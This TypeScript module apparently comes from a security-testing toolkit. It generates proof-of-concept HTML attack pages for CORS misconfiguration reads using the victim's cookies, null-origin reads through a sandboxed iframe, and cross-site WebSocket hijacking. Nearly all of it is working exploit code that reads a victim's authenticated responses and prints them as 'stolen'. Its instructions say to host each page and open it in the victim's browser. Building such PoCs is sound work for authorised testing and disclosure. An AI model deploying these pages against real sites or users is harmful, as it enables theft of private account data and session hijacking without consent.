import { escapeHtml as h, scriptJson } from '../kit/index.js';

/** What a PoC page shows and which request it makes. */
export interface PageInput {
  readonly title: string;
  /** The victim URL (http(s) for reads, ws(s) for WebSocket hijacking). */
  readonly url: string;
  /** The origin the page must be served from (`null`: any origin, the sandboxed iframe provides it). */
  readonly origin: string;
  readonly credentials: 'include' | 'omit';
}

function page(input: PageInput, intro: string, script: string, extraBody = ''): string {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>${h(input.title)}</title>
<style>body{font-family:system-ui,sans-serif;max-width:900px;margin:24px auto}pre{background:#111;color:#eee;padding:12px;white-space:pre-wrap;word-break:break-all}</style>
</head><body>
<h1>${h(input.title)}</h1>
<p>${intro}</p>
<p>Victim URL: <code>${h(input.url)}</code></p>
<p id="status" data-state="pending">Reading…</p>
<pre id="stolen"></pre>
${extraBody}<script>${script}</script>
</body></html>
`;
}

const SHOW = `
const statusEl = document.getElementById('status');
const stolen = document.getElementById('stolen');
function show(state, text, body) {
  statusEl.dataset.state = state;
  statusEl.textContent = text;
  if (body !== undefined) stolen.textContent = body;
}`;

/**
 * A page that reads the victim URL cross-origin with `fetch` and echoes the response into `#stolen`.
 *
 * @example
 * ```ts
 * fetchPage({ title: 'PoC', url: 'https://api.example.com/me', origin: 'https://x.invalid', credentials: 'include' });
 * ```
 */
export function fetchPage(input: PageInput): string {
  const script = `${SHOW}
fetch(${scriptJson(input.url)}, { credentials: ${scriptJson(input.credentials)}, mode: 'cors' })
  .then((r) => r.text().then((body) => show('read', 'Read HTTP ' + r.status + ' cross-origin:', body)))
  .catch((e) => show('blocked', 'Blocked by the browser: ' + e));`;
  const intro = `Host this page at <code>${h(input.origin)}</code> and open it in the victim's browser: it reads the victim URL ${input.credentials === 'include' ? "with the victim's cookies" : 'without cookies'} and shows what it got.`;
  return page(input, intro, script);
}

/**
 * A page whose sandboxed iframe (`sandbox="allow-scripts"`, so its origin is `null`) reads the victim URL
 * and passes the response to the page, which shows it in `#stolen`.
 *
 * @example
 * ```ts
 * nullOriginPage({ title: 'PoC', url: 'https://api.example.com/me', origin: 'null', credentials: 'include' });
 * ```
 */
export function nullOriginPage(input: PageInput): string {
  const inner = `<!doctype html><script>
fetch(${scriptJson(input.url)}, { credentials: ${scriptJson(input.credentials)}, mode: 'cors' })
  .then((r) => r.text().then((body) => parent.postMessage({ state: 'read', status: r.status, body: body }, '*')))
  .catch((e) => parent.postMessage({ state: 'blocked', error: String(e) }, '*'));
</script>`;
  const script = `${SHOW}
window.addEventListener('message', (event) => {
  const d = event.data || {};
  if (d.state === 'read') show('read', 'Read HTTP ' + d.status + ' from the null origin:', String(d.body));
  else show('blocked', 'Blocked by the browser: ' + d.error);
});`;
  const intro =
    'Host this page anywhere: the sandboxed iframe below has the origin <code>null</code>, which the server trusts.';
  return page(
    input,
    intro,
    script,
    `<iframe sandbox="allow-scripts" srcdoc="${h(inner)}" hidden></iframe>\n`,
  );
}

/**
 * A cross-site WebSocket hijacking page: opens the victim's socket (the browser sends the victim's cookies)
 * and echoes every message into `#stolen`.
 *
 * @example
 * ```ts
 * websocketPage({ title: 'PoC', url: 'wss://api.example.com/socket', origin: 'https://x.invalid', credentials: 'include' });
 * ```
 */
export function websocketPage(input: PageInput): string {
  const script = `${SHOW}
const ws = new WebSocket(${scriptJson(input.url)});
ws.onopen = () => show('open', 'Connected as the victim; waiting for messages…');
ws.onmessage = (m) => { stolen.textContent += String(m.data) + '\\n'; show('read', 'Received from the victim socket:'); };
ws.onerror = () => show('blocked', 'The handshake was refused.');`;
  const intro = `Host this page at <code>${h(input.origin)}</code>: it opens the WebSocket as the victim and shows every message.`;
  return page(input, intro, script);
}
